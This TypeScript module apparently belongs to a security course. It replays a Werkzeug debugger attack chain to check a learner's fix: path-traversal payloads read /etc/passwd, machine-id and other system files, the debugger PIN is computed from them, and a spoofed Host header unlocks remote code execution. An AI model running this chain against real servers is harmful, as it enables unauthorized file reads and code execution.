/**
 * Lesson 08's attack, replayed: read the facts Werkzeug's debugger PIN is derived from through a
 * file-read hole, compute the PIN (werkzeug-pin.ts), unlock the console with `Host: 127.0.0.1`
 * (Werkzeug 3.0.3 and later answer the debugger only to a trusted Host: `trusted_hosts`, by
 * default `.localhost` and `127.0.0.1`, GHSA-2g68-c3qc-8985; the client writes that header) and
 * run code in the server. Pure: it only sends requests through `send`, so the `debugger-chain`
 * check runs it against the virtual server and the reality test against real Gunicorn.
 *
 * The chain is broken only when both links are: no file outside the download folder comes back,
 * and no debugger answers. Each link is judged on its own, so a closed hole does not hide an open
 * console (its PIN comes from facts a backup, another hole or the log can give away) and a
 * removed debugger does not hide a hole that still reads the machine's files.
 */
import { werkzeugPin, type PinFacts } from './werkzeug-pin';

export interface ChainRequest {
  path: string;
  headers: Record<string, string>;
}
export interface ChainResponse {
  status: number;
  headers: Array<[string, string]>;
  body: string;
}
export type ChainSend = (request: ChainRequest) => Promise<ChainResponse>;

export interface ChainOptions {
  /** The route that serves a file named by a query parameter: `/download` and `name`. */
  fileRead: { path: string; param: string };
  /** A request that makes the app fail, where a debugger shows its traceback page. */
  crashPath: string;
}

/** A file of the machine the PIN needs, and the shape that proves its content came back. */
const FACT_FILES = {
  machineId: { path: '/etc/machine-id', shape: /^[0-9a-f]{32}\s*$/ },
  bootId: { path: '/proc/sys/kernel/random/boot_id', shape: /^[0-9a-f-]{36}\s*$/ },
  cgroup: { path: '/proc/self/cgroup', shape: /^\d+:[^\n]*:/ },
  mac: { path: '/sys/class/net/eth0/address', shape: /^([0-9a-f]{2}:){5}[0-9a-f]{2}\s*$/ },
  status: { path: '/proc/self/status', shape: /^Uid:\s*\d+/m },
  passwd: { path: '/etc/passwd', shape: /^root:[^:\n]*:0:0:/m },
} as const;
type FactName = keyof typeof FACT_FILES;

/** Ways out of the download folder, tried in this order; the first that works is reported. */
const ESCAPES: Array<{ name: string; path: (file: string) => string }> = [
  { name: '../ walks up out of the folder', path: (file) => `${'../'.repeat(8)}${file.slice(1)}` },
  { name: 'an absolute name: os.path.join drops the folder', path: (file) => file },
  { name: '....//: stripping "../" from it leaves ../', path: (file) => `${'....//'.repeat(8)}${file.slice(1)}` },
];

/** What the attacker runs in the console: its answer cannot come from anywhere else. */
export const CHAIN_CODE = '"chain-" + str(6 * 7)';
const CHAIN_MARK = 'chain-42';
/** The Host the console trusts by default, written by the attacker. */
export const TRUSTED_HOST = '127.0.0.1';
const CONSOLE_PATH = '/console';

export interface ChainReport {
  /** The facts that came back through the hole, by name; empty when none did. */
  read: Partial<Record<FactName, string>>;
  /** The request that read the first of them, and how it escaped the folder. */
  readWith: { path: string; escape: string } | null;
  /** The debugger answered: its console at /console, or an evalex traceback page. */
  consoleAt: string | null;
  /** The console ran code without any PIN (WERKZEUG_DEBUG_PIN=off, pin_security=False). */
  pinOff: boolean;
  /** The PIN the facts give, when they were all read. */
  pin: string | null;
  /** The code the console ran, and what it answered. */
  ran: { code: string; output: string } | null;
}

function query(params: Record<string, string>): string {
  return new URLSearchParams(params).toString();
}

function cookieFrom(response: ChainResponse): string | null {
  const header = response.headers.find(
    ([name, value]) => name.toLowerCase() === 'set-cookie' && value.startsWith('__wzd'),
  );
  return header ? header[1].split(';', 1)[0]! : null;
}

async function readFacts(send: ChainSend, options: ChainOptions): Promise<Pick<ChainReport, 'read' | 'readWith'>> {
  const fetchFile = async (file: string, escape: (typeof ESCAPES)[number]) => {
    const name = escape.path(file);
    const response = await send({
      path: `${options.fileRead.path}?${query({ [options.fileRead.param]: name })}`,
      headers: {},
    });
    // Shown as the learner would type it in curl, not percent-encoded.
    return {
      path: `${options.fileRead.path}?${options.fileRead.param}=${name}`,
      body: response.status === 200 ? response.body : null,
    };
  };
  // Find a way out with the first file, then read the rest the same way.
  for (const escape of ESCAPES) {
    const first = await fetchFile(FACT_FILES.machineId.path, escape);
    if (first.body === null || !FACT_FILES.machineId.shape.test(first.body)) continue;
    const read: ChainReport['read'] = { machineId: first.body };
    for (const [name, file] of Object.entries(FACT_FILES) as Array<[FactName, (typeof FACT_FILES)[FactName]]>) {
      if (name === 'machineId') continue;
      const { body } = await fetchFile(file.path, escape);
      if (body !== null && file.shape.test(body)) read[name] = body;
    }
    return { read, readWith: { path: first.path, escape: escape.name } };
  }
  return { read: {}, readWith: null };
}

/** getpass.getuser() of the server, as an attacker reads it: its uid in /proc/self/status, named in /etc/passwd. */
function userOf(read: ChainReport['read']): string | null {
  const uid = /^Uid:\s*(\d+)/m.exec(read.status ?? '')?.[1];
  if (uid === undefined || read.passwd === undefined) return null;
  const entry = read.passwd.split('\n').find((line) => line.split(':')[2] === uid);
  return entry ? entry.split(':')[0]! : null;
}

/** The path of flask/app.py as the debugger's traceback page shows it. */
function flaskModuleFile(page: string): string | null {
  return /<cite class="filename">"([^"<]*\/flask\/app\.py)"<\/cite>/.exec(page)?.[1] ?? null;
}

async function runInConsole(send: ChainSend, secret: string, cookie: string | null): Promise<ChainReport['ran']> {
  const response = await send({
    path: `${CONSOLE_PATH}?${query({ __debugger__: 'yes', cmd: CHAIN_CODE, frm: '0', s: secret })}`,
    headers: { Host: TRUSTED_HOST, ...(cookie ? { Cookie: cookie } : {}) },
  });
  return response.status === 200 && response.body.includes(CHAIN_MARK)
    ? { code: CHAIN_CODE, output: CHAIN_MARK }
    : null;
}

export async function replayChain(send: ChainSend, options: ChainOptions): Promise<ChainReport> {
  const report: ChainReport = { read: {}, readWith: null, consoleAt: null, pinOff: false, pin: null, ran: null };
  Object.assign(report, await readFacts(send, options));

  const consolePage = await send({ path: CONSOLE_PATH, headers: { Host: TRUSTED_HOST } });
  const crashPage = await send({ path: options.crashPath, headers: { Host: TRUSTED_HOST } });
  const consoleSecret = /SECRET = "([^"]+)"/.exec(consolePage.body)?.[1];
  const evalexCrash = /EVALEX = true/.test(crashPage.body);
  if (consolePage.status === 200 && consoleSecret) report.consoleAt = CONSOLE_PATH;
  else if (evalexCrash) report.consoleAt = `the traceback page of ${options.crashPath}`;
  if (!consoleSecret) return report;

  // A console that trusts without a PIN runs the code straight away.
  report.ran = await runInConsole(send, consoleSecret, null);
  if (report.ran) {
    report.pinOff = true;
    return report;
  }

  const machineId = report.read.machineId ?? report.read.bootId;
  const moduleFile = flaskModuleFile(crashPage.body);
  if (!machineId || !report.read.mac) return report;
  // What DebuggedApplication wraps decides the second and third facts: the Flask app, or its wsgi_app.
  for (const appname of ['Flask', 'wsgi_app']) {
    const facts: PinFacts = {
      user: userOf(report.read),
      modname: 'flask.app',
      appname,
      moduleFile,
      mac: report.read.mac,
      machineId,
      cgroup: report.read.cgroup ?? null,
    };
    const { pin } = await werkzeugPin(facts);
    const auth = await send({
      path: `${CONSOLE_PATH}?${query({ __debugger__: 'yes', cmd: 'pinauth', pin, s: consoleSecret })}`,
      headers: { Host: TRUSTED_HOST },
    });
    if (!/"auth": true/.test(auth.body)) continue;
    report.pin = pin;
    report.ran = await runInConsole(send, consoleSecret, cookieFrom(auth));
    break;
  }
  return report;
}

const listRead = (read: ChainReport['read']) =>
  (Object.keys(read) as FactName[]).map((name) => FACT_FILES[name].path).join(', ');

/** The verdict: broken at both links, or what still works, in the learner's words. */
export function chainVerdict(report: ChainReport): { passed: boolean; message: string } {
  const hole = report.readWith
    ? `${report.readWith.path} reads the machine's files (${listRead(report.read)}; ${report.readWith.escape})`
    : null;
  if (report.ran && report.pinOff) {
    return {
      passed: false,
      message: `The console at ${report.consoleAt} ran \`${report.ran.code}\` in the server without asking for any PIN (the PIN is turned off).${hole ? ` And ${hole}.` : ''}`,
    };
  }
  if (report.ran && hole) {
    return {
      passed: false,
      message: `The whole chain works: ${hole}; the PIN they give is ${report.pin}; the console at ${report.consoleAt}, asked with Host: ${TRUSTED_HOST}, took it and ran \`${report.ran.code}\` in the server (it answered ${report.ran.output}).`,
    };
  }
  if (report.consoleAt) {
    return {
      passed: false,
      message: `${hole ? `${hole[0]!.toUpperCase()}${hole.slice(1)}, and the` : 'No file comes back through the hole, but the'} debugger still answers at ${report.consoleAt} to anyone who sends Host: ${TRUSTED_HOST} (a header the client writes): only its PIN stands in the way, and the PIN comes from facts a backup, another hole or a log can give away. Take the debugger out of everything production imports.`,
    };
  }
  if (hole) {
    return {
      passed: false,
      message: `The debugger is gone, but ${hole}: serve downloads with send_from_directory, which refuses any name that leaves its folder.`,
    };
  }
  return {
    passed: true,
    message: `Broken at both links: no file outside the download folder comes back (../, absolute paths, ....//), and no debugger answers at /console or on a crash, even with Host: ${TRUSTED_HOST}.`,
  };
}
